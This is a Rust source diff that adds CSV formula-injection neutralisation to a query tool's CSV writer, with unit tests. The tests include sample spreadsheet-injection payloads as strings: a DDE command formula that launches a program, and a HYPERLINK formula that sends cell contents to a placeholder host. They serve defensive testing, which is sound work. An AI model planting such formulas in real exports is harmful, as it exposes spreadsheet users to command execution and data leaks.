@@ -18,7 +18,8 @@ use crate::queries::QueryResult;
 pub enum OutputFormat {
     /// An aligned table for reading in a terminal.
     Table,
-    /// RFC 4180 CSV with a header; ISO 8601 timestamps with their offset; nulls empty.
+    /// RFC 4180 CSV with a header; ISO 8601 timestamps with their offset; nulls empty; text
+    /// that a spreadsheet would take for a formula starts with `'` ([`csv_text`]).
     Csv,
     /// A JSON array of objects, nulls explicit.
     Json,
@@ -97,13 +98,7 @@ pub fn write(result: &QueryResult, format: OutputFormat, out: &mut dyn Write) ->
             writeln!(out, "{rows} row{}", if rows == 1 { "" } else { "s" }).map_err(io)?;
         }
         OutputFormat::Csv => {
-            let mut writer = CsvWriterBuilder::new()
-                .with_header(true)
-                .with_timestamp_tz_format(TIMESTAMP_TZ.into())
-                .with_timestamp_format(TIMESTAMP.into())
-                .with_date_format(DATE.into())
-                .with_null(String::new())
-                .build(&mut *out);
+            let mut writer = CsvWriter::new(&mut *out);
             if result.batches.is_empty() {
                 writer.write(&RecordBatch::new_empty(result.schema.clone()))?;
             }
@@ -145,6 +140,105 @@ pub fn write(result: &QueryResult, format: OutputFormat, out: &mut dyn Write) ->
         }
     }
     Ok(())
+}
+
+/// The characters that make a spreadsheet read a cell as a formula (`=`, `+`, `-`, `@`) or
+/// that Excel skips before looking for one (tab, carriage return): OWASP's list for CSV
+/// injection.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as it may go into a CSV: one that a spreadsheet would run as a formula gets a
+/// leading `'`, which Excel and LibreOffice show as text and do not display. A community
+/// named `=HYPERLINK(…)` must reach a planner's spreadsheet as a name, not as a link that
+/// sends the sheet's cells elsewhere. Only text goes through here: numbers stay numbers.
+pub fn csv_text(cell: &str) -> std::borrow::Cow<'_, str> {
+    if cell.starts_with(FORMULA_STARTS) {
+        std::borrow::Cow::Owned(format!("'{cell}"))
+    } else {
+        std::borrow::Cow::Borrowed(cell)
+    }
+}
+
+/// Every CSV the project writes from rows goes through this writer (the `query` command,
+/// dashboard downloads, bundles, `/q/…csv`, `/sql/result.csv`), so its text cells and
+/// headings are neutralised by [`csv_text`] in one place. Batch by batch, so a download can
+/// stream.
+pub struct CsvWriter<W: Write> {
+    inner: datafusion::arrow::csv::Writer<W>,
+}
+
+impl<W: Write> CsvWriter<W> {
+    /// RFC 4180 with a header; ISO 8601 timestamps with their offset; nulls empty.
+    pub fn new(out: W) -> Self {
+        CsvWriter {
+            inner: CsvWriterBuilder::new()
+                .with_header(true)
+                .with_timestamp_tz_format(TIMESTAMP_TZ.into())
+                .with_timestamp_format(TIMESTAMP.into())
+                .with_date_format(DATE.into())
+                .with_null(String::new())
+                .build(out),
+        }
+    }
+
+    /// Writes the batch's rows (and, for the first batch, the header).
+    pub fn write(&mut self, batch: &RecordBatch) -> Result<()> {
+        self.inner.write(&neutralised(batch)?)?;
+        Ok(())
+    }
+
+    pub fn into_inner(self) -> W {
+        self.inner.into_inner()
+    }
+}
+
+/// Whether arrow writes a column of this type as text of the data (not a number, date or
+/// time, whose first character is never one of [`FORMULA_STARTS`] but a digit or a minus).
+fn is_text(data_type: &datafusion::arrow::datatypes::DataType) -> bool {
+    use datafusion::arrow::datatypes::DataType;
+    match data_type {
+        DataType::Utf8 | DataType::LargeUtf8 | DataType::Utf8View => true,
+        DataType::Dictionary(_, values) => is_text(values),
+        _ => false,
+    }
+}
+
+/// The batch with [`csv_text`] applied to its column names and text cells; the batch itself
+/// when nothing needs it, which is nearly always.
+fn neutralised(batch: &RecordBatch) -> Result<RecordBatch> {
+    use datafusion::arrow::array::{ArrayRef, AsArray, StringArray};
+    use datafusion::arrow::datatypes::{DataType, Schema};
+    use std::borrow::Cow;
+    use std::sync::Arc;
+    let schema = batch.schema();
+    let mut changed = false;
+    let mut fields = Vec::with_capacity(batch.num_columns());
+    let mut columns: Vec<ArrayRef> = Vec::with_capacity(batch.num_columns());
+    for (field, column) in schema.fields().iter().zip(batch.columns()) {
+        let mut field = field.as_ref().clone();
+        let mut column = column.clone();
+        if let Cow::Owned(name) = csv_text(field.name()) {
+            field = field.with_name(name);
+            changed = true;
+        }
+        if is_text(field.data_type()) {
+            let text = datafusion::arrow::compute::cast(&column, &DataType::Utf8)?;
+            let text = text.as_string::<i32>();
+            if text.iter().flatten().any(|t| t.starts_with(FORMULA_STARTS)) {
+                let safe: StringArray = text.iter().map(|t| t.map(csv_text)).collect();
+                column = Arc::new(safe);
+                field = field.with_data_type(DataType::Utf8);
+                changed = true;
+            }
+        }
+        fields.push(field);
+        columns.push(column);
+    }
+    if !changed {
+        return Ok(batch.clone());
+    }
+    let schema = Schema::new_with_metadata(fields, schema.metadata().clone());
+    Ok(RecordBatch::try_new(Arc::new(schema), columns)?)
 }
 
 /// How a CSV is encoded for the program that will open it.
@@ -426,6 +520,79 @@ mod tests {
         assert_eq!(
             to_bytes(&one_empty_batch, OutputFormat::Json).unwrap(),
             b"[]\n"
+        );
+    }
+
+    #[test]
+    fn text_that_starts_a_formula_gets_a_quote_and_other_text_is_untouched() {
+        for (cell, safe) in [
+            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
+            ("+1", "'+1"),
+            ("-3.5", "'-3.5"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("黎园社区", "黎园社区"),
+            ("a=b", "a=b"),
+            (" =1", " =1"),
+            ("'=1", "'=1"),
+            ("", ""),
+        ] {
+            assert_eq!(csv_text(cell), safe, "{cell:?}");
+        }
+        assert!(matches!(csv_text("黎园"), std::borrow::Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn csv_neutralises_text_cells_and_headings_but_not_numbers() {
+        use datafusion::arrow::array::{DictionaryArray, StringViewArray};
+        use datafusion::arrow::datatypes::Int32Type;
+        let schema = Arc::new(Schema::new(vec![
+            Field::new("name", DataType::Utf8, true),
+            Field::new("view", DataType::Utf8View, true),
+            Field::new(
+                "dict",
+                DataType::Dictionary(Box::new(DataType::Int32), Box::new(DataType::Utf8)),
+                true,
+            ),
+            Field::new("change", DataType::Float64, true),
+            Field::new("n", DataType::Int64, true),
+            Field::new("=x", DataType::Utf8, true),
+        ]));
+        let batch = RecordBatch::try_new(
+            schema.clone(),
+            vec![
+                Arc::new(StringArray::from(vec![
+                    Some("=HYPERLINK(\"http://x/\"&A1,\"黎园\")"),
+                    Some("黎园社区"),
+                    None,
+                ])),
+                Arc::new(StringViewArray::from(vec![Some("@a"), Some("b"), None])),
+                Arc::new(
+                    vec![Some("-1"), Some("c"), None]
+                        .into_iter()
+                        .collect::<DictionaryArray<Int32Type>>(),
+                ),
+                Arc::new(Float64Array::from(vec![Some(-3.5), Some(2.0), None])),
+                Arc::new(Int64Array::from(vec![Some(-7), Some(0), None])),
+                Arc::new(StringArray::from(vec![Some("x"), Some("+y"), None])),
+            ],
+        )
+        .unwrap();
+        let csv = to_bytes(
+            &QueryResult {
+                schema,
+                batches: vec![batch],
+            },
+            OutputFormat::Csv,
+        )
+        .unwrap();
+        assert_eq!(
+            String::from_utf8(csv).unwrap(),
+            "name,view,dict,change,n,'=x\n\
+             \"'=HYPERLINK(\"\"http://x/\"\"&A1,\"\"黎园\"\")\",'@a,'-1,-3.5,-7,x\n\
+             黎园社区,b,c,2.0,0,'+y\n\
+             ,,,,,\n"
         );
     }
 
